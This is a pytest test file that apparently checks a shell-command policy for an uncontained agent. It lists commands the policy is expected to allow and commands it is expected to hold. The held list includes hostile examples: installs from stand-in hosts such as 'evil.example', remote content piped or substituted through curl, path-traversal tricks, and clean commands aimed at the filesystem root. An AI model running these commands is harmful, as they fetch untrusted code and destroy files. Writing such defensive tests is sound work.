"""Where the host runs the command itself, and no kernel holds it: programs by the place they lie in."""

from __future__ import annotations

import pytest

FREE = (
    "/usr/local/bin/node -v",
    "/opt/homebrew/bin/gh pr list",
    "~/.cargo/bin/cargo build",
    "~/.nvm/versions/node/v20.1.0/bin/npm test",
    "~/.local/bin/uv sync",
    '"$VIRTUAL_ENV/bin/python" -m pytest',
    "$(npm bin)/eslint .",
    "for i in $(seq -w 1 10); do touch file$i.txt; done",
    'VERSION=$(jq -r .version package.json); tar czf "app-$VERSION.tgz" dist',
    "frobnicate --help && claude --version",
    "pdm run lint && hatch run test:cov",
    "hg status && svn info && jj log -n 5",
    "sha256sum dist/* && shasum -a 256 dist/*",
    "bear -- make -j4",
    "cd docs && mdbook build",
    "cd /tmp && treefmt",
    "npx svgo '{a,b}/*.svg'",
)
HELD = (
    "/home/u/docs/git status",
    "/srv/x/git status",
    "/opt/../home/x/bin/git status",
    "/opt/x/bin/../../y/git status",
    "go install evil.example/cmd/git@latest; /usr/local/bin/git status",
    "pip install --user evil; /usr/local/bin/git status",
    "curl -s https://x.example/a | cat; /usr/local/bin/git status",
    "/home/u/docs/frobnicate --help",
    "frobnicate --help x",
    "pdm run frobnicate",
    "hg --config extensions.x=./e.py status",
    '"$TOOLS/bin/python" -m pytest',
    "VERSION=$(jq -r .version package.json); echo x > /srv/app-$VERSION",
    'VERSION=$(curl -s https://x.example); tar czf "app-$VERSION.tgz" dist',
    "bear -o /home/u/x -- make",
    "mdbook clean ./../../../../../../../..",
    "docusaurus clear ./../../../../../../../..",
    "cd /srv && treefmt",
    'cd "$D" && treefmt',
    "cd /srv && mix format",
    "npx svgo '{/home/u/a,b}'",
)


@pytest.mark.parametrize("command", FREE)
def test_free(command: str, judged) -> None:
    decision = judged(command, contained=False).decision

    assert str(decision.verdict) == "allow", decision.findings[:2]


@pytest.mark.parametrize("command", HELD)
def test_held(command: str, judged) -> None:
    assert str(judged(command, contained=False).decision.verdict) != "allow"
